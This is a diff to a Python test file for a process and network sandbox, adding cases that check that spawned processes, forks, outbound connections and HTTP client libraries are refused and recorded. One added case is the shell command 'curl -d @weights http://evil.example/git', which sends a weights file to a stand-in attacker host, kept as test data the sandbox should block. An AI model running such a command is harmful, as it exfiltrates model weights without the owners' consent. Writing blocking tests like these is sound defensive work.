@@ -2,6 +2,7 @@
 
 import json
 import os
+import shutil
 import signal
 import socket
 import subprocess
@@ -17,6 +18,7 @@ from modelsmith.adapters.wall import ProcessWall
 from tests.support.clock import FixedClock
 from tests.support.models import ROOT
 
+LIKE_GIT = "true http://evil.example/git"
 AWAY = "203.0.113.9"  # TEST-NET-3 (RFC 5737): nobody has it
 NOBODY = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")
 NAMESPACE = "namespace" in ProcessWall(FixedClock()).held_by.by
@@ -84,6 +86,13 @@ def place(server: ThreadingHTTPServer) -> str:
         (("shell", "true"), "process: true (os.system)"),
         (("spawned", "/bin/true"), "process: /bin/true (os.posix_spawn)"),
         (("forked",), "process: os.fork"),
+        (("terminal",), "process: os.forkpty"),
+        (("replaced", "/bin/true"), "process: /bin/true (os.exec)"),
+        (("message", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
+        (
+            ("shell", "curl -d @weights http://evil.example/git"),
+            "process: curl -d @weights http://evil.example/git (os.system)",
+        ),
     ],
 )
 def test_what_tries_to_leave_is_refused_and_written_down(where, words, refused):
@@ -183,9 +192,33 @@ def test_a_proxy_before_who_is_allowed_is_reached_too(home):
     assert home.calls == ["http://api.example.com/v1"]
 
 
-def test_git_may_be_started_by_the_step_and_not_by_local_work():
+def test_git_may_be_started_by_the_step_and_not_by_local_work(tmp_path):
     assert "usage: git" in behind("program", "git")["outcome"]
+    assert "usage: git" in behind("program", str(shutil.which("git")))["outcome"]
     assert behind("--within", "program", "git")["refused"]
+    other = tmp_path / "git"
+    other.write_text("#!/bin/sh\ntrue\n", encoding="utf-8")
+    other.chmod(0o755)
+    assert behind("program", str(other))["refused"] == [
+        f"process: {other} (subprocess.Popen): beyond what the run may reach"
+    ]
+
+
+def test_a_store_behind_a_proxy_is_reached(home):
+    found = behind(
+        *("--infrastructure", "s3.example.com", "fetch", "http://s3.example.com/weights"),
+        http_proxy=f"http://127.0.0.1:{home.server_port}",
+    )
+    assert found["outcome"] == "home"
+
+
+@pytest.mark.parametrize("client", ["requests", "httpx", "aiohttp"])
+def test_no_client_library_gets_out(client, home):
+    pytest.importorskip(client)
+    found = behind("--within", client, f"http://127.0.0.1:{home.server_port}/")
+    assert "raised" in found
+    assert [line.split(": ")[0] for line in found["refused"]] == ["connection"]
+    assert home.calls == []
 
 
 @pytest.mark.parametrize("where", [(), ("--within",)])
